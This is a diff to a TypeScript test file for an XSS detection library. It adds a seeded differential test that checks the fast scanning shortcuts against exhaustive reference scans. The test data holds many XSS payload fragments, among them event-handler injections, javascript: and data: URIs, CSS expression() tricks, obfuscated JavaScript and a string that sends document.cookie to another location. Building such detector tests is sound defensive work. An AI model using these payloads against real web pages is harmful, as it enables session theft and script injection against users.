@@ -1,7 +1,8 @@
 import { describe, expect, it } from 'vitest';
-import { compact, decode } from './decode.js';
+import { scanContexts, scanContextsExhaustive } from './contexts.js';
+import { compact, compactAll, decode, decodeEveryChar } from './decode.js';
 import type { Detection } from '../types.js';
-import { xss } from './index.js';
+import { scanExhaustive, xss } from './index.js';
 
 // Hand-written examples only (the corpus in /work/shared is for measuring, not for tests).
 
@@ -286,5 +287,73 @@ describe('xss: bounded work', () => {
   });
   it('still finds an attack at the end of a large benign value', () => {
     expect(xss.detect(`${'lorem ipsum '.repeat(50_000)}<img src=x onerror=go()>`)?.reason).toBe('event-handler');
+  });
+});
+
+describe('xss: the shortcuts never change a verdict', () => {
+  it('masks, shared gates, the flat-form and decoding shortcuts agree with the reference paths (seeded differential test)', () => {
+    // Seeded mix of every rule's anchors (quotes, `=`, handlers, schemes, CSS, template and JS syntax, entities,
+    // JS and CSS escapes, whitespace and comments that the flat form drops) and of query-string and prose text.
+    const pieces = [
+      '"', "'", '`', '=', '==', '(', ')', '()', ';', ':', '$', '${', '{', '}', '{{', '.', '[', ']', '[]', '/', '//', '/*', '*/', '*', '\\', ',',
+      '!', '!!', '!+', '&', '&{', '-', '-->', '<!--', '>', '<', '+', '%', '?', '#', ' ', '\t', '\n', '\u00ad', '\u00bc', '\u00be', '\0',
+      'on', 'onload', 'onerror=', 'onfocus', 'formaction', 'srcdoc', 'javascript', 'javascript:', 'vbscript:', 'mocha:', 'java script:',
+      'data:', 'data:text/html', 'data:,', 'application/javascript', 'expression', 'expression(', 'behavior:url(', 'url(', '-moz-binding',
+      'document', 'window', 'self', 'top', 'cookie', 'domain', 'location', 'innerhtml', 'insertadjacenthtml', 'write', 'alert', 'eval',
+      'settimeout', 'new function', 'constructor', '$eval', 'call', 'apply', 'new', 'void', 'void(0)', 'go', 'x.y', 'a', 'b2',
+      '&amp;', '&lt;', '&#106;', '&#x3a;', '&colon;', '&tab;', '&pv_id=', '\\u003c', '\\x3c', '\\3a', '\\28', '\\', '<img', '<b>',
+      '<a href=', '<svg', '</script>', 'https://e.example/p?q=1&r=2', 'sdk_version=3.0.0', '%3D', 'the', 'and', 'is',
+      "';", "'+", '"-', "')", '}', 'x.y=', 'a.b.c =', "top['x']=", 'go(1)', 'a(b)', 'x`1`', "'//", '-"',
+    ];
+    // Shapes of every rule (written here), which the generator joins to pieces and then edits (drops,
+    // replaces or doubles a few characters): a shortcut that wrongly needs a character shows as a diff.
+    const shapes = [
+      '" onmouseover="go()', "' x=y onfocus=", '"/formaction=//x', 'q=x;onfocus=go(1)', 'onerror=go;throw 1', 'javascript:go(1)',
+      '=vbscript:a.b', 'data:text/html;base64,x', '(data:application/javascript,x', 'x:expression(go())', "{behavior:url(x)",
+      'a:url(javascript', 'expression(go())', "';go(1)//", '"-go(1)-"', "'}go(1);{'", "';document.location='//x'+document.cookie;//",
+      "';x.y='a'//", '${alert(1)}', '{{constructor.x}}', '[].map.call`${go}1`', '(![]+[])[+!+[]]+(![]+[])[!+[]+!+[]]+(!![]+[])[+[]]',
+      'window["alert"](1)', 'self[/*x*/"document"]', 'document /*x*/ .cookie', 'alert(1)', 'new function(x)', ' onload= ', ' onfocus="',
+      'javascript:\\u0061lert(1)', 'data:,<svg onload=go()>', 'data:,alert(1)', 'alert(document.domain)', "'+document.cookie",
+      'document.queryselector("p").textcontent="x"', 'x.innerhtml = y', 'el.insertadjacenthtml(a)', 'document.write(x)', '!![]', '! []',
+      '\u00bcscript\u00bego()\u00bc/script\u00be', '&{go(1)};', '"-->', ' --><', 'ja\tvascript:go()', 'x:ex/**/pression(go())',
+      'x:expression\\28go()\\29', 'java\\3a script:go(1)',
+    ];
+    // mulberry32: the low bits of a power-of-two LCG repeat too soon to mix pieces and edits well.
+    let seed = 20260512;
+    const rand = (n: number): number => {
+      seed = (seed + 0x6d2b79f5) | 0;
+      let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
+      t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
+      return ((t ^ (t >>> 14)) >>> 0) % n;
+    };
+    const punct = '"\'`=();:${}.[]/*\\,!&-><+ \t';
+    const edit = (v: string): string => {
+      const at = rand(v.length + 1);
+      const op = rand(3);
+      if (op === 0) return v.slice(0, at) + v.slice(at + 1);
+      if (op === 1) return v.slice(0, at) + punct[rand(punct.length)]! + v.slice(at + 1);
+      return v.slice(0, at) + v.slice(at, at + 1) + v.slice(at);
+    };
+    let fired = 0;
+    let contextsFired = 0;
+    for (let n = 0; n < 6000; n++) {
+      const len = 1 + rand(6);
+      const parts: string[] = [];
+      for (let k = 0; k < len; k++) parts.push(rand(3) === 0 ? shapes[rand(shapes.length)]! : pieces[rand(pieces.length)]!);
+      let value = parts.join(rand(3) === 0 ? ' ' : '');
+      for (let e = rand(4); e > 0; e--) value = edit(value);
+      const reference = scanExhaustive(value);
+      if (reference) fired++;
+      expect(xss.detect(value), value).toEqual(reference);
+      const text = value.toLowerCase();
+      const contexts = scanContextsExhaustive(text);
+      if (contexts) contextsFired++;
+      expect(scanContexts(text), text).toEqual(contexts);
+      expect(compact(value), value).toBe(compactAll(value));
+      expect(decode(value), value).toBe(decodeEveryChar(value));
+    }
+    // The generator must reach the rules, or the comparison proves nothing.
+    expect(fired).toBeGreaterThan(2000);
+    expect(contextsFired).toBeGreaterThan(1000);
   });
 });
